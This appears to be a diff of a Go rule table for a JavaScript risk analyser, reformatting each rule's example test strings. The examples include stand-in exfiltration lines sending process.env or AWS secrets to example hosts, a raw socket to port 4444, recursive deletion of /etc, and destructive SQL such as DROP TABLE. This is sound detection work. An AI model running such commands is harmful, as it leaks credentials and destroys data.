-		`process.chdir("/"); require("fs").rmSync("etc", {recursive: true}) => chdir /`,
-		`process.cwd() !> -`,
-	}},
+	{name: "process.chdir|Deno.chdir", do: aChdir, ex: `process.chdir("/"); require("fs").rmSync("etc", {recursive: true}) => chdir /` + "\n" +
+		`process.cwd() !> -` + "\n"},
 	{name: "url.fileURLToPath|util.promisify|#bind|#toString|#trim|#valueOf|String|#toLowerCase|#toUpperCase|#normalize|#slice", ret: rArg, arg: -1},
 	{name: "Buffer.from", ret: rCodec},
 	{name: "atob", ret: rB64},
@@ -225,46 +175,32 @@ var jsRules = [...]rule{
 	{name: "argv#slice", ret: rArgvList},
 
 	// ---- network
-	{name: "fetch", do: aFetch, ex: []string{
-		`fetch("https://x.example/c", { method: "POST", body: JSON.stringify(process.env) }) => send:http https://x.example/c`,
-		`fetch("https://x.example/c", { method: "POST", body: JSON.stringify(process.env) }) => env:send`,
-		"fetch(`https://x.example/?k=${process.env.AWS_SECRET_ACCESS_KEY}`) => var:send AWS_SECRET_ACCESS_KEY",
-		`fetch("https://registry.npmjs.org/react") !> send:http https://registry.npmjs.org/react`,
-	}},
-	{name: "axios.post|axios.put|axios.patch|axios|got.post|ky.post|needle.post|superagent.post|request.post|navigator.sendBeacon|http.request|https.request", do: aSend, ex: []string{
-		`require("axios").post("https://x.example", { data: process.env }) => env:send`,
-		`const axios = require("axios"); axios.post("https://hooks.example/x", { t: 1 }) => send:http https://hooks.example/x`,
-		`require("https").request({ host: "x.example", method: "POST" }) => send:http x.example`,
-		`require("axios").get("https://example.com") !> send:http https://example.com`,
-	}},
-	{name: "axios.get|got|got.get|http.get|https.get|axios.request", do: aFetch, ex: []string{
-		`require("axios").get("https://x.example/?t=" + process.env.TOKEN) => var:send TOKEN`,
-		`require("axios").get("https://example.com") !> send:http https://example.com`,
-	}},
-	{name: "net.connect|net.createConnection|tls.connect|net.Socket#connect", do: aConnect, opt: "raw", ret: rSocket, ex: []string{
-		`require("net").connect(4444, "203.0.113.7") => send:raw 203.0.113.7`,
-		`const s = require("net").createConnection({ host: "198.51.100.2", port: 80 }); s.write(JSON.stringify(process.env)) => env:send`,
-		`require("net").isIP("1.2.3.4") !> -`,
-	}},
-	{name: "socket#write|socket#end", do: aWriteData, arg: -1, ex: []string{
-		`const s = require("net").connect(1, "h"); s.write(process.env.SECRET) => var:send SECRET`,
-		`const s = require("net").connect(1, "h"); s.write("ping") !> env:send`,
-	}},
-	{name: "file#write|file#end", do: aWriteData, arg: -1, ex: []string{
-		`const f = require("fs").createWriteStream("e.txt"); f.write(JSON.stringify(process.env)) => env:file`,
-		`const f = require("fs").createWriteStream("e.txt"); f.write("x") !> env:file`,
-	}},
+	{name: "fetch", do: aFetch, ex: `fetch("https://x.example/c", { method: "POST", body: JSON.stringify(process.env) }) => send:http https://x.example/c` + "\n" +
+		`fetch("https://x.example/c", { method: "POST", body: JSON.stringify(process.env) }) => env:send` + "\n" +
+		"fetch(`https://x.example/?k=${process.env.AWS_SECRET_ACCESS_KEY}`) => var:send AWS_SECRET_ACCESS_KEY\n" +
+		`fetch("https://registry.npmjs.org/react") !> send:http https://registry.npmjs.org/react` + "\n"},
+	{name: "axios.post|axios.put|axios.patch|axios|got.post|ky.post|needle.post|superagent.post|request.post|navigator.sendBeacon|http.request|https.request", do: aSend, ex: `require("axios").post("https://x.example", { data: process.env }) => env:send` + "\n" +
+		`const axios = require("axios"); axios.post("https://hooks.example/x", { t: 1 }) => send:http https://hooks.example/x` + "\n" +
+		`require("https").request({ host: "x.example", method: "POST" }) => send:http x.example` + "\n" +
+		`require("axios").get("https://example.com") !> send:http https://example.com` + "\n"},
+	{name: "axios.get|got|got.get|http.get|https.get|axios.request", do: aFetch, ex: `require("axios").get("https://x.example/?t=" + process.env.TOKEN) => var:send TOKEN` + "\n" +
+		`require("axios").get("https://example.com") !> send:http https://example.com` + "\n"},
+	{name: "net.connect|net.createConnection|tls.connect|net.Socket#connect", do: aConnect, opt: "raw", ret: rSocket, ex: `require("net").connect(4444, "203.0.113.7") => send:raw 203.0.113.7` + "\n" +
+		`const s = require("net").createConnection({ host: "198.51.100.2", port: 80 }); s.write(JSON.stringify(process.env)) => env:send` + "\n" +
+		`require("net").isIP("1.2.3.4") !> -` + "\n"},
+	{name: "socket#write|socket#end", do: aWriteData, arg: -1, ex: `const s = require("net").connect(1, "h"); s.write(process.env.SECRET) => var:send SECRET` + "\n" +
+		`const s = require("net").connect(1, "h"); s.write("ping") !> env:send` + "\n"},
+	{name: "file#write|file#end", do: aWriteData, arg: -1, ex: `const f = require("fs").createWriteStream("e.txt"); f.write(JSON.stringify(process.env)) => env:file` + "\n" +
+		`const f = require("fs").createWriteStream("e.txt"); f.write("x") !> env:file` + "\n"},
 
 	// ---- databases
 	{name: "better-sqlite3|sqlite3.Database|bun:sqlite.Database|Database", ret: rDB, opt: "sqlite"},
 	{name: "pg.Client|pg.Pool|postgres", ret: rDB, opt: "postgres"},
 	{name: "mysql.createConnection|mysql2.createConnection|mysql2.promise.createConnection|mysql.createPool|mysql2.createPool", ret: rDB, opt: "mysql"},
 	{name: "regexp#exec|regexp#test|RegExp#exec", ret: rClean},
-	{name: "#query|#raw|#exec|#execute|#run|#prepare|#$executeRawUnsafe|#$queryRawUnsafe|#unsafe", do: aSQL, ex: []string{
-		`const db = require("better-sqlite3")("app.db"); db.exec("DROP TABLE users") => sql:sqlite DROP TABLE users`,
-		`const { Client } = require("pg"); const c = new Client(); await c.query("TRUNCATE audit_log") => sql:postgres TRUNCATE audit_log`,
-		`await prisma.$executeRawUnsafe("DELETE FROM accounts") => sql DELETE FROM accounts`,
-		`/x/.exec("DROP TABLE y") !> sql DROP TABLE y`,
-		`task.run("build") !> -`,
-	}},
+	{name: "#query|#raw|#exec|#execute|#run|#prepare|#$executeRawUnsafe|#$queryRawUnsafe|#unsafe", do: aSQL, ex: `const db = require("better-sqlite3")("app.db"); db.exec("DROP TABLE users") => sql:sqlite DROP TABLE users` + "\n" +
+		`const { Client } = require("pg"); const c = new Client(); await c.query("TRUNCATE audit_log") => sql:postgres TRUNCATE audit_log` + "\n" +
+		`await prisma.$executeRawUnsafe("DELETE FROM accounts") => sql DELETE FROM accounts` + "\n" +
+		`/x/.exec("DROP TABLE y") !> sql DROP TABLE y` + "\n" +
+		`task.run("build") !> -` + "\n"},
 }
